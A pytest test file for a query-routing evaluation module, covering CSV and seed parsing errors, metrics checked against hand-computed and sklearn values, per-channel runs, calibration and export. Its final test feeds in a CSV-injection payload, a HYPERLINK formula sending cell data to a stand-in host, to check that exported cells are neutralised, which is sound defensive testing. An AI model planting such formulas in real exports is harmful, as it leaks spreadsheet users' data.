"""Evaluation: labelled CSV parsing, metrics against hand-computed values, per-channel runs, seeds, export."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sklearn.metrics import f1_score

from lmos_studio.errors import DesignFileError, RoutingError
from lmos_studio.routing.evaluate import (
    compare,
    comparison_rows,
    confusion_cells,
    evaluate,
    evaluation_report,
    misroute_rows,
)
from lmos_studio.routing.labelled import LabelledQuery, parse_labelled_csv, parse_seed, read_seed, seed_rows
from lmos_studio.routing.metrics import NO_AGENT, Prediction, compute_metrics
from lmos_studio.routing.table import channel_key
from tests.conftest import ACME, ROUTER_BENCHMARK
from tests.routing_fake import DESIGN, WEB, OverlapRouter, ThresholdRouter


def prediction(expected: str, got: str, *, cap: str = "", got_cap: str = "", ms: float = 1.0) -> Prediction:
    return Prediction(
        text="q",
        expected_agent=expected,
        expected_capability=cap,
        channel="",
        agent=got,
        capability=got_cap,
        score=0.5,
        evidence=("e",),
        latency_ms=ms,
    )


HAND = [  # expected → predicted, with capabilities on three rows and latencies 1..6 ms
    prediction("A", "A", cap="x", got_cap="x", ms=1),
    prediction("A", "A", cap="x", got_cap="y", ms=2),
    prediction("A", "B", ms=3),
    prediction("B", "B", cap="z", got_cap="z", ms=4),
    prediction("B", "", ms=5),
    prediction("C", "C", ms=6),
]


def test_metrics_match_hand_computed_values() -> None:
    m = compute_metrics(HAND)
    assert m.n == 6 and m.accuracy == pytest.approx(4 / 6)
    assert m.capability_accuracy == pytest.approx(2 / 3)  # rows 1, 2, 4 name a capability; 1 and 4 match
    # A: TP 2, FP 0, FN 1 → P 1, R 2/3, F1 0.8; B: TP 1, FP 1, FN 1 → 0.5/0.5/0.5; C: 1/1/1
    assert m.per_agent["A"].precision == 1 and m.per_agent["A"].recall == pytest.approx(2 / 3)
    assert m.per_agent["A"].f1 == pytest.approx(0.8) and m.per_agent["A"].support == 3
    assert (m.per_agent["B"].precision, m.per_agent["B"].recall, m.per_agent["B"].f1) == (0.5, 0.5, 0.5)
    assert m.per_agent["C"].f1 == 1 and m.per_agent["C"].support == 1
    assert m.macro_f1 == pytest.approx((0.8 + 0.5 + 1) / 3)
    assert m.labels == ("A", "B", "C", NO_AGENT)
    assert m.confusion == ((2, 1, 0, 0), (0, 1, 0, 1), (0, 0, 1, 0), (0, 0, 0, 0))  # square, as sklearn
    assert len(m.misroutes) == 2 and m.misroutes[1].agent == ""
    assert m.latency_p50_ms == pytest.approx(3.5) and m.latency_p95_ms == pytest.approx(5.75)


def test_macro_f1_agrees_with_sklearn_over_the_labelled_agents() -> None:
    expected = [p.expected_agent for p in HAND]
    predicted = [p.agent or NO_AGENT for p in HAND]
    assert compute_metrics(HAND).macro_f1 == pytest.approx(
        f1_score(expected, predicted, labels=["A", "B", "C"], average="macro", zero_division=0)
    )


def test_metrics_json_has_exactly_the_contract_keys() -> None:
    data = compute_metrics(HAND).to_dict()
    assert set(data) == {
        "n",
        "accuracy",
        "in_scope_accuracy",
        "out_of_scope_recall",
        "false_rejects",
        "n_out_of_scope",
        "capability_accuracy",
        "macro_f1",
        "per_agent",
        "confusion",
        "misroutes",
        "latency_ms",
        "intervals",
    }
    assert set(data["per_agent"]["A"]) == {"precision", "recall", "f1", "support"}
    assert set(data["latency_ms"]) == {"p50", "p95"}
    assert data["misroutes"][0]["evidence"] == ["e"]
    json.dumps(data)  # serialisable as is


def test_no_capability_column_gives_none_and_empty_set_gives_zeroes() -> None:
    assert compute_metrics([prediction("A", "A")]).capability_accuracy is None
    assert compute_metrics([]).n == 0


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("", "q.csv:1: empty file"),
        ("question,agent\nhi,a\n", "q.csv:1: the header has no text column (instruction, query or text)"),
        ("query,who\nhi,a\n", "q.csv:1: the header has no 'agent' column"),
        # Bug (session 12 QA): an unclosed quote swallowed the rest of the file into one cell and was reported
        # as "1 fields, but the header has 3; quote fields that contain commas"
        ('query,agent,channel\n"hi,a,web\nbye,b,web\n', "q.csv:2: a quoted field is not closed"),
        ("query,agent\nhi,a\nhello\n", "q.csv:3: 1 fields, but the header has 2"),
        ("query,agent\nhi,a\n,b\n", "q.csv:3: query: empty cell"),
        ("instruction,agent,intent\nhi,  ,x\n", "q.csv:2: agent: a capability without an agent"),
        ("query,agent\n", "q.csv:2: no labelled rows"),
        # Bug (session 14 QA): a spreadsheet's ';'- or tab-separated export was said to have no text column,
        # "found: query;agent", without saying why
        ("query;agent\nhi;a\n", "q.csv:1: the header is one column 'query;agent', separated by ';' not commas;"),
        ("query\tagent\nhi\ta\n", r"q.csv:1: the header is one column 'query\tagent', separated by tabs not commas;"),
    ],
)
def test_csv_errors_name_file_line_and_column(text: str, where: str) -> None:
    with pytest.raises(DesignFileError) as info:
        parse_labelled_csv(text, source="q.csv")
    assert str(info.value).startswith(where)


def test_csv_quotes_read_as_before_when_every_field_is_closed() -> None:
    """Only an unclosed quote became an error: quotes inside a field, and a closed one followed by a space, read
    as Python's csv module always read them."""
    rows = parse_labelled_csv('query,agent\nsay "hi" now,a\n"ok" ,b\nwhat "is,c\n', source="q.csv")
    assert [(r.text, r.agent) for r in rows] == [('say "hi" now', "a"), ("ok", "b"), ('what "is', "c")]


def test_csv_columns_alternatives_and_bom() -> None:
    rows = parse_labelled_csv("\ufefftext,Agent,intent,channel\n\nhello there, a ,greet,web\n".encode(), source="x.csv")
    assert rows == [LabelledQuery("hello there", "a", "greet", "web", line=3)]
    with pytest.raises(DesignFileError, match="not UTF-8"):
        parse_labelled_csv(b"query,agent\n\xff\xfe,a\n", source="x.csv")


def test_seed_json_in_lmos_router_format(reference: Path) -> None:
    seed = read_seed(reference / "lmos-router-examples" / "seed.json")
    assert seed[0].text == "I want to buy a car" and seed[0].agent == "offer-agent"
    assert seed_rows(seed)[0] == ("I want to buy a car", "offer-agent", "")
    with pytest.raises(DesignFileError, match=r"\[1\]: each entry needs"):
        parse_seed('[{"text": "a", "agentName": "x"}, {"text": "b"}]', source="s.json")
    with pytest.raises(DesignFileError, match=r"s\.json:1: malformed JSON"):
        parse_seed("[{", source="s.json")
    # Bug (session 14 QA): JSON that did not start with '[' (an object, or a broken file) was read as CSV:
    # "the header has no text column (instruction, query or text); found: {"a": 1,"
    with pytest.raises(DesignFileError, match=r"s\.json:1: malformed JSON"):
        parse_seed('{"a": 1,', source="s.json")
    with pytest.raises(DesignFileError, match=r"s\.json: a seed JSON file is a list of \{text, agentName\}"):
        parse_seed('{"text": "a", "agentName": "x"}', source="s.json")


def test_benchmark_csv_parses() -> None:
    rows = parse_labelled_csv((ROUTER_BENCHMARK / "train.csv").read_bytes(), source="train")
    assert len(rows) == 3000 and rows[0].capability == "change_order"


def test_evaluate_fits_each_channel_once_and_reports_progress() -> None:
    rows = [
        LabelledQuery("show my bill", "billing", "view-bill", "web-stable", 2),
        LabelledQuery("contract end date please", "contract", "view-contract", "web", 3),
        LabelledQuery("will it rain tomorrow", "weather", "forecast", "app-stable", 4),
        LabelledQuery("weather for my bill", "", "", "web-stable", 5),
    ]  # weather is not wired in web: no agent of it should answer
    router, seen = OverlapRouter(), []
    result = evaluate(DESIGN, rows, router=router, progress=lambda done, total: seen.append((done, total)))
    assert router.fits == 2 and seen[-1] == (4, 4) and len(seen) == 2  # one batch per channel
    assert [p.agent for p in result.predictions] == ["billing", "contract", "weather", "billing"]
    assert result.metrics.accuracy == 0.75 and result.metrics.misroutes[0].line == 5
    assert result.predictions[0].evidence == ("near: show my bill",)
    assert result.predictions[1].channel == "default/web-stable"
    assert "line,query,channel" in result.to_csv() and json.loads(result.to_json())["router"] == "overlap"
    assert misroute_rows(result)[0]["routed to"] == "billing"
    assert {"expected": NO_AGENT, "predicted": "billing", "count": 1} in confusion_cells(result)
    assert result.metrics.in_scope_accuracy == 1.0 and result.metrics.out_of_scope_recall == 0.0
    report = evaluation_report(result)  # what the Evaluate page keeps in the session: plain data only
    assert report["summary"]["accuracy"] == 0.75 and report["misroutes"] == misroute_rows(result)
    assert report["csv"] == result.to_csv() and report["contract"] == result.to_dict()
    assert json.loads(json.dumps({k: v for k, v in report.items() if k not in ("csv", "json")})) is not None


def test_an_agent_the_channel_does_not_route_to_names_the_csv_line() -> None:
    rows = [LabelledQuery("weather for my bill", "weather", "", "web-stable", 5)]
    with pytest.raises(DesignFileError, match=r"^q.csv:5: agent: agent 'weather' is not an agent of channel"):
        evaluate(DESIGN, rows, router=OverlapRouter(), source="q.csv")


def test_out_of_scope_rows_count_as_right_when_no_agent_answers() -> None:
    rows = [
        prediction("A", "A"),
        prediction("A", ""),  # a false reject
        prediction("", ""),  # out of scope, answered none
        prediction("", "B"),  # out of scope, answered B
    ]
    m = compute_metrics(rows)
    assert m.accuracy == 0.5 and m.in_scope_accuracy == 0.5 and m.out_of_scope_recall == 0.5
    assert m.false_rejects == 1 and m.n_out_of_scope == 2
    assert m.labels[-1] == NO_AGENT and m.confusion[m.labels.index(NO_AGENT)] == (0, 1, 1)
    assert m.to_dict()["misroutes"][1]["expected_agent"] is None


def test_seed_examples_change_the_answer() -> None:
    rows = [LabelledQuery("how much do I pay", "billing", "", "web-stable", 2)]
    assert evaluate(DESIGN, rows, router=OverlapRouter()).metrics.accuracy == 0
    seed = [("how much do I pay", "billing", ""), ("ignored", "unknown-agent", "")]
    assert evaluate(DESIGN, rows, router=OverlapRouter(), seed=seed).metrics.accuracy == 1


def test_unknown_channel_names_the_csv_line() -> None:
    rows = [LabelledQuery("show my bill", "billing", "", "", 2), LabelledQuery("x", "billing", "", "nope", 7)]
    with pytest.raises(DesignFileError, match=r"^q.csv:7: channel: channel 'nope' is not a Channel"):
        evaluate(DESIGN, rows, router=OverlapRouter(), source="q.csv")


def test_channel_refs_key_name_label_and_ambiguity() -> None:
    assert channel_key(DESIGN, "default/web-stable") == channel_key(DESIGN, "web") == "default/web-stable"
    assert channel_key(DESIGN, "") == "" and channel_key(DESIGN.replace(channels=()), "web") == ""
    twin = DESIGN.replace(channels=(*DESIGN.channels, WEB.model_copy(update={"namespace": "other"})))
    assert channel_key(twin, "web-stable") == "default/web-stable"  # the default namespace wins a shared name
    with pytest.raises(RoutingError, match="ambiguous"):
        channel_key(twin, "web")


def test_compare_routers_side_by_side() -> None:
    rows = [LabelledQuery("show my bill", "billing", "", "web", 2)]
    seen: list[tuple[int, int]] = []
    results = compare(
        DESIGN, rows, routers=[OverlapRouter(), OverlapRouter(name="other")], progress=lambda d, t: seen.append((d, t))
    )
    assert [r["router"] for r in comparison_rows(results)] == ["overlap", "other"]
    assert seen == [(1, 2), (2, 2)]


def test_acme_sample_csv_parses_and_names_known_channels() -> None:
    from lmos_studio.formats.design_file import read_design
    from lmos_studio.routing.evaluate import group_by_channel
    from lmos_studio.routing.labelled import read_labelled_csv

    rows = read_labelled_csv(ACME.parent / "acme-queries.csv")
    groups = group_by_channel(read_design(ACME), rows)
    assert len(rows) >= 30 and len(groups) == 5


def test_reference_is_present() -> None:
    assert (ROUTER_BENCHMARK / "train.csv").exists()


def test_usage_is_summed_and_a_threshold_router_is_calibrated_per_channel() -> None:
    rows = [
        LabelledQuery("show my bill", "billing", "", "web", 2),
        LabelledQuery("contract end date", "contract", "", "web", 3),
        LabelledQuery("rain tomorrow", "weather", "", "app-stable", 4),
    ]
    plain = evaluate(DESIGN, rows, router=ThresholdRouter())
    assert plain.calibrations == {} and plain.usage == {"track llm": 3, "total_tokens": 30, "cost_usd": 1.5}
    tuned = evaluate(DESIGN, rows, router=ThresholdRouter(), calibrate=True)
    assert tuned.calibrations == {
        "default/web-stable": {"threshold": 0.5, "n": 2},
        "default/app-stable": {"threshold": 0.5, "n": 1},
    }
    assert tuned.usage["track fast"] == 3
    assert json.loads(tuned.to_json())["calibrations"]["default/app-stable"]["n"] == 1
    assert "usage" not in tuned.to_dict()  # the CLI contract keeps its keys


def test_hybrid_router_against_the_llm_stub_is_calibrated_and_its_usage_summed() -> None:
    from lmos_studio.routing.hybrid import HybridRouter
    from lmos_studio.routing.llm import LlmRouter
    from lmos_studio.routing.statistical import StatisticalRouter
    from lmos_studio.routing.table import routing_table
    from tests.openai_stub import StubServer, keyword_chat

    server = StubServer(keyword_chat(routing_table(DESIGN, "web-stable"))).start()
    try:
        llm = LlmRouter(base_url=server.base_url, model="gpt-4o-mini", api_key="sk-test")
        hybrid = HybridRouter(fast=StatisticalRouter(), llm=llm, threshold=1.01)  # every query asks the LLM
        rows = [
            LabelledQuery("show my bill", "billing", "", "web", 2),
            LabelledQuery("when does my contract end", "contract", "", "web", 3),
        ]
        asked = evaluate(DESIGN, rows, router=hybrid)
        assert asked.usage["track llm"] == 2 and asked.usage["total_tokens"] > 0 and len(server.requests) == 2
        tuned = evaluate(DESIGN, rows, router=hybrid, calibrate=True)
        calibration = tuned.calibrations["default/web-stable"]
        assert calibration["n"] == 2 and 0 <= calibration["threshold"] <= 1
        assert tuned.usage.get("track fast", 0) >= 1
    finally:
        server.stop()


def test_macro_f1_of_a_set_without_in_scope_rows_is_undefined_not_zero() -> None:
    """Bug (session 12 QA): a set of out-of-scope rows only, every one rightly answered "no agent", reported
    macro F1 0.000 (CLI, JSON and the Evaluate page) beside accuracy 100 %; now None ("—"), as
    in_scope_accuracy."""
    m = compute_metrics([prediction("", ""), prediction("", "")])
    assert (m.accuracy, m.out_of_scope_recall, m.in_scope_accuracy, m.macro_f1) == (1.0, 1.0, None, None)
    assert m.to_dict()["macro_f1"] is None
    assert compute_metrics([prediction("", "billing")]).macro_f1 is None  # a misroute: no agent to average


def test_the_predictions_csv_does_not_start_a_cell_with_a_formula() -> None:
    """Bug (session 16 QA): a query of an uploaded labelled set such as `=HYPERLINK("http://x?"&A1,"bill")` went
    into the predictions CSV as it was, and a spreadsheet opening the download runs it (CSV injection). Text
    cells starting with = + - @ or a tab / carriage return now start with an apostrophe (OWASP's advice);
    other text is unchanged."""
    import csv
    import io

    rows = [
        LabelledQuery('=HYPERLINK("http://x?"&A1,"bill")', "billing", "", "web-stable", 2),
        LabelledQuery("@SUM(1+1) my bill", "billing", "", "web-stable", 3),
        LabelledQuery("show my bill", "billing", "", "web-stable", 4),
    ]
    result = evaluate(DESIGN, rows, router=OverlapRouter())
    read = list(csv.DictReader(io.StringIO(result.to_csv())))
    assert [r["query"] for r in read] == ['\'=HYPERLINK("http://x?"&A1,"bill")', "'@SUM(1+1) my bill", "show my bill"]
    assert read[0]["agent"] == "billing"  # a plain cell stays as it is
